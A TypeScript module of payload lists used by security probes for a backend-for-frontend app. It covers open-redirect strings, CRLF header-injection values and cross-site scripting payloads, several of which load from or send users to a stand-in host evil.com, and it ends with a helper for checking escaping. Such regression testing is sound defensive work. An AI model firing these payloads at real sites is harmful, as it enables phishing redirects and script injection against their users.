/**
 * The payload lists the probes replay. Add a line to extend a probe: every place that takes the
 * kind of value gets it.
 */

/** Values for a `redirect` parameter: each must leave the visitor on the BFF's own origin. */
export const REDIRECT_PAYLOADS: string[] = [
  "https://evil.com",
  "http://evil.com/",
  "//evil.com",
  "//evil.com/",
  "///evil.com",
  "////evil.com",
  "/\\evil.com",
  "\\\\evil.com",
  "\\/evil.com",
  "/\\/evil.com",
  "\\evil.com",
  "/\t/evil.com",
  "/\n/evil.com",
  "/\r\n/evil.com",
  "\t//evil.com",
  " //evil.com",
  "/ /evil.com",
  "https:evil.com",
  "http:evil.com",
  "https:/evil.com",
  "https:\\\\evil.com",
  "HTTPS://EVIL.COM",
  "%2f%2fevil.com",
  "%2F%2Fevil.com",
  "/%2f%2fevil.com",
  "/%2F/evil.com",
  "/%5cevil.com",
  "/%5c%5cevil.com",
  "%5c%5cevil.com",
  "/%2e//evil.com",
  "/.//evil.com",
  "/./\\evil.com",
  "/../evil.com",
  "/..//evil.com",
  "/%2e%2e//evil.com",
  "/index/..//evil.com",
  "/index/%2e%2e//evil.com",
  "/%09/evil.com",
  "/%0d%0a/evil.com",
  "//evil.com%2f..",
  "//evil.com\\@127.0.0.1",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java\tscript:alert(1)",
  "\u0001javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "//evil.com@127.0.0.1",
  "https://127.0.0.1@evil.com",
  "//127.0.0.1@evil.com",
  "@evil.com",
  "/@evil.com",
  "//@evil.com",
  "http://127.0.0.1:3300.evil.com",
  "http://evil.com#@127.0.0.1",
  "http://evil.com?@127.0.0.1",
  "／／evil.com",
  "/／evil.com",
  "／\\evil.com",
  "⁄⁄evil.com",
  "∕∕evil.com",
  "/\u3002evil.com",
  "//evil。com",
  "//ⓔⓥⓘⓛ.com",
  "//evil%E3%80%82com",
  "/\u200b/evil.com",
  "/\u00a0/evil.com",
  "/%0d%0aLocation:%20https://evil.com",
  "/\r\nLocation: https://evil.com",
  "/\r\nSet-Cookie: injected=1",
  "/%0d%0aX-Injected:%201",
  "//evil.com/%2e%2e",
  "/\\\\evil.com",
  "\u0000//evil.com",
  "/%00/evil.com",
  "http://[::1]:80@evil.com",
  "//0x7f000001.evil.com",
  "//%65%76%69%6c.com",
];

/**
 * Raw request paths (sent byte for byte with node:http): a redirect the BFF makes back to the
 * request's own path (error catalogue, trailing-slash or directory redirects) must not turn one
 * of these into an off-site Location.
 */
export const PATH_PAYLOADS: string[] = [
  "//evil.com/",
  "//evil.com",
  "//evil.com/index",
  "/\\evil.com/",
  "/\\evil.com",
  "/\\\\evil.com/",
  "///evil.com/",
  "//evil.com/%2e%2e",
  "//evil.com/..%2f",
  "/%2f%2fevil.com/",
  "/%5cevil.com/",
  "/.//evil.com/",
  "/%2e//evil.com/",
  "/index/..//evil.com/",
  "//evil.com/?x=1",
  "//evil.com/assets",
  "//assets",
  "//locales/zh-cn",
  "//evil.com/member/index",
  "/member/index?redirect=//evil.com",
];

/** The marker a payload sets when it runs (checked in the browser) and the call it makes. */
export const XSS_MARKER = "window.__xss=1";

/**
 * Reflected/stored script payloads. Each sets `window.__xss` or opens a dialog when it runs; the
 * HTML check looks for the payload's active part unescaped (see `activePart`).
 */
export const XSS_PAYLOADS: string[] = [
  "<script>window.__xss=1</script>",
  "<SCRIPT>window.__xss=1</SCRIPT>",
  "<script src=//evil.com/x.js></script>",
  "<img src=x onerror=window.__xss=1>",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=x ONERROR=alert(1)>",
  "<svg onload=window.__xss=1>",
  "<svg/onload=alert(1)>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<select autofocus onfocus=alert(1)>",
  "<textarea autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<base href=//evil.com/>",
  "<meta http-equiv=refresh content=0;url=//evil.com>",
  "<link rel=stylesheet href=//evil.com/x.css>",
  "<form action=//evil.com><button>x</button></form>",
  "<style>*{background:url(//evil.com)}</style>",
  "</script><script>window.__xss=1</script>",
  "</title><script>window.__xss=1</script>",
  "</textarea><script>window.__xss=1</script>",
  "</style><script>window.__xss=1</script>",
  "<!--<script>window.__xss=1</script>-->",
  "<![CDATA[<script>window.__xss=1</script>]]>",
  '"><script>window.__xss=1</script>',
  "'><script>window.__xss=1</script>",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus="alert(1)',
  "' autofocus onfocus='alert(1)",
  '" onmouseover="window.__xss=1',
  '"/><svg onload=alert(1)>',
  '" style="background:url(//evil.com)',
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "&lt;script&gt;window.__xss=1&lt;/script&gt;",
  "&#60;script&#62;window.__xss=1&#60;/script&#62;",
  "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
  "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
  "{{constructor.constructor('alert(1)')()}}",
  "${alert(1)}",
  "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
  '<img src="x" onerror="alert(1)">',
  "<img src=x:alert(1) onerror=eval(src)>",
  "<svg><script>alert&#40;1&#41;</script>",
  '<a href="&#x6a;avascript:alert(1)">x</a>',
  "\u2028<script>window.__xss=1</script>",
  "<script>window.__xss=1</script>\u0000",
  "<x onclick=alert(1)>click</x>",
];

/**
 * The part of a payload that must never reach the HTML raw: from its first `<` (a tag), or else
 * from its first quote (an attribute break-out). Payloads without either (javascript: URLs,
 * entities, template syntax) are checked by the URL-attribute check and in the browser.
 */
export function activePart(payload: string): { text: string; kind: "tag" | "quote" } | null {
  const trimmed = payload.trim();
  const tag = trimmed.search(/<[a-zA-Z/!]/);
  if (tag >= 0) return { text: trimmed.slice(tag), kind: "tag" };
  const quote = trimmed.search(/["']/);
  if (quote >= 0 && /on\w+=|style=/i.test(trimmed)) return { text: trimmed.slice(quote), kind: "quote" };
  return null;
}
